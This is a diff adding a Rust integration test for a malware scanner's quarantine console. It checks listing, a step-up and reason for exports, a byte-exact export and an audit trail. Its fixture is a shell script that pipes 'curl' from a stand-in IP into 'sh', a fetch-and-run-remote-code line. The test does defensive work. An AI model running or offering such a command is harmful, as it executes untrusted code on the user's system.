@@ -1096,3 +1096,90 @@ fn a_difference_not_yet_reported_is_not_accepted_with_what_was_shown() {
     drop(unseen);
     server.stop();
 }
+
+/// The quarantine in the console: a script caught by `pacsguard scan --quarantine` (run
+/// by the guard) is listed and shown; its export needs a step-up and a reason, sends the
+/// very bytes of the original, is on the trail with the reason, and leaves the vault
+/// copy as it was (bytes, mode, times).
+#[test]
+fn a_quarantined_copy_is_listed_shown_and_exported_with_a_step_up_unchanged() {
+    use std::os::unix::fs::MetadataExt as _;
+    let env = Env::new();
+    env.profile(&[]);
+    let server = Server::start(&env, &[]);
+    let secret = first_admin(&server);
+    let incoming = env.dir.path().join("incoming");
+    std::fs::create_dir_all(&incoming).expect("mkdir");
+    let script = b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n";
+    std::fs::write(incoming.join("run.sh"), script).expect("write");
+    let scan = env.run(&["scan", "--quarantine", incoming.to_str().expect("utf-8")]);
+    assert_eq!(scan.status.code(), Some(1), "{}", stderr(&scan));
+
+    let (status, _, list) = server.curl("GET", "/quarantine", &[]);
+    assert_eq!(status, 200, "{list}");
+    assert!(
+        list.contains("run.sh") && list.contains("executable-file"),
+        "{list}"
+    );
+    let sha = value_of(&list, "/quarantine/item?sha=", '"');
+    assert_eq!(sha.len(), 64, "{sha}");
+    let content = env.home.join("quarantine").join(&sha).join("content");
+    let before = std::fs::metadata(&content).expect("vault copy");
+    let (status, _, item) =
+        server.curl("GET", &format!("/quarantine/item?sha={}", &sha[..12]), &[]);
+    assert_eq!(status, 200, "{item}");
+    assert!(
+        item.contains("id=\"verified\"") && item.contains("id=\"step-up-needed\""),
+        "{item}"
+    );
+    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');
+    let export = |csrf: &str| {
+        server.curl(
+            "POST",
+            "/quarantine/export",
+            &[
+                ("csrf", csrf),
+                ("sha", &sha),
+                ("reason", "sample for the CERT, ticket 4711"),
+            ],
+        )
+    };
+    let (status, _, body) = export(&csrf);
+    assert_eq!(status, 403, "no step-up yet: {body}");
+    let (status, headers, _) = server.curl(
+        "POST",
+        "/step-up",
+        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
+    );
+    assert_eq!(status, 303, "{headers}");
+    let (_, _, item) = server.curl("GET", &format!("/quarantine/item?sha={sha}"), &[]);
+    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');
+    let (status, headers, body) = export(&csrf);
+    assert_eq!(status, 200, "{headers}{body}");
+    assert!(
+        headers
+            .to_ascii_lowercase()
+            .contains("content-disposition: attachment"),
+        "{headers}"
+    );
+    assert_eq!(body.as_bytes(), script, "the original's bytes");
+    let after = std::fs::metadata(&content).expect("vault copy");
+    assert_eq!(std::fs::read(&content).expect("read"), script);
+    assert_eq!(
+        (after.mode(), after.mtime(), after.mtime_nsec(), after.ino()),
+        (
+            before.mode(),
+            before.mtime(),
+            before.mtime_nsec(),
+            before.ino()
+        ),
+        "the vault copy is unchanged"
+    );
+    server.stop();
+    let shown = env.run(&["audit", "show", "--action", "quarantine", "--json"]);
+    let text = stdout(&shown);
+    assert!(
+        text.contains("console:admin") && text.contains("ticket 4711") && text.contains(&sha),
+        "{text}"
+    );
+}
